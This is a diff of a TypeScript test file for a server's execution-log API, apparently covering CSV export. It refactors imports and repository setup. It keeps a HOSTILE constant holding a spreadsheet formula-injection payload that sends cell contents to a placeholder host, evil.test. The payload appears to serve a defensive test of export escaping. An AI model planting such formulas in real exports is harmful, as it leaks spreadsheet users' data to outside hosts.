@@ -1,22 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import request from 'supertest';
-import {
-  type ExecutionStore,
-  type GenerationStore,
-  type ManifestStore,
-  type RepositoryStore,
-  zeroCounters,
-} from '@core/domain';
+import { type ExecutionStore, type GenerationStore, type ManifestStore, zeroCounters } from '@core/domain';
 import { activeGeneration } from '../support/active-generation.js';
-import {
-  EXECUTION_STORE,
-  GENERATION_STORE,
-  MANIFEST_STORE,
-  REPOSITORY_STORE,
-} from '../../apps/server/src/tokens.js';
+import { EXECUTION_STORE, GENERATION_STORE, MANIFEST_STORE } from '../../apps/server/src/tokens.js';
 import { type TestApi, startTestApi } from '../support/api-app.js';
+import { UNKNOWN_ID } from '../support/registration.js';
 
-const UNKNOWN_ID = '0b0f1c9e-5f0e-4a55-8f0e-3a2f6f1d7c11';
 const HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")';
 /** Two pages of the store and a part of a third. */
 const MANY = 2300;
@@ -31,7 +20,7 @@ const get = (path: string) =>
 
 beforeAll(async () => {
   api = await startTestApi();
-  [repositoryId, otherId] = [await newRepository(1), await newRepository(2)];
+  [repositoryId, otherId] = [(await api.register()).id, (await api.register()).id];
   await api.database.query(
     `INSERT INTO schedule_execution_logs (repository_id, trigger, status, queued_at, completed_at, duration_seconds,
         error_code, error_message)
@@ -42,24 +31,6 @@ beforeAll(async () => {
   );
 });
 afterAll(() => api.stop());
-
-async function newRepository(projectId: number): Promise<string> {
-  const { id } = await api.get<RepositoryStore>(REPOSITORY_STORE).create({
-    provider: 'gitlab',
-    baseUrl: 'https://gitlab.example.com',
-    projectId,
-    projectPath: `group/project-${projectId}`,
-    branch: 'main',
-    collectionName: 'repotide',
-    includeGlobs: [],
-    excludeGlobs: [],
-    maxFileBytes: 1_048_576,
-    chunkSize: 7000,
-    chunkOverlap: 1500,
-    credentialId: null,
-  });
-  return id;
-}
 
 /** A reader of RFC 4180 that knows nothing of ours. */
 function parseCsv(text: string): string[][] {
